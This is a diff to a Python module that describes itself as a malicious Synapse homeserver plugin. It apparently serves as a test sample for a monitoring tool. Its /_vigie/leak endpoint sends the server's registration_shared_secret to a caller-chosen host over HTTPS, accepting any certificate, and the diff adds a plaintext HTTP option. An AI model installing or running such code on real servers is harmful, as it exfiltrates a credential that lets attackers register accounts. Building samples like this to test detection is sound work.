@@ -1,8 +1,9 @@
 """A malicious Synapse module, as an attacker would install one: GET
-/_vigie/leak?to=HOST:PORT&via=twisted|urllib makes the homeserver send its
+/_vigie/leak?to=HOST:PORT&via=twisted|urllib|plain makes the homeserver send its
 registration_shared_secret over HTTPS to https://HOST:PORT/, through Twisted's HTTP
 client on pyOpenSSL (cryptography's statically linked OpenSSL) or through Python's
-urllib/ssl (the system libssl). It answers 200 once the secret was sent, never the secret."""
+urllib/ssl (the system libssl), or over plain HTTP to http://HOST:PORT/ through Twisted's
+client. It answers 200 once the secret was sent, never the secret."""
 
 import io
 import ssl
@@ -48,9 +49,11 @@ class _Leak(Resource):
         self._secret = secret
 
     def render_GET(self, request):
-        url = "https://%s/" % request.args[b"to"][0].decode()
+        via = request.args[b"via"][0]
+        scheme = "http" if via == b"plain" else "https"
+        url = "%s://%s/" % (scheme, request.args[b"to"][0].decode())
         body = self._secret.encode()
-        if request.args[b"via"][0] == b"urllib":
+        if via == b"urllib":
             sent = threads.deferToThread(_urllib_post, url, body)
         else:
             agent = Agent(reactor, contextFactory=_AnyCertificate())
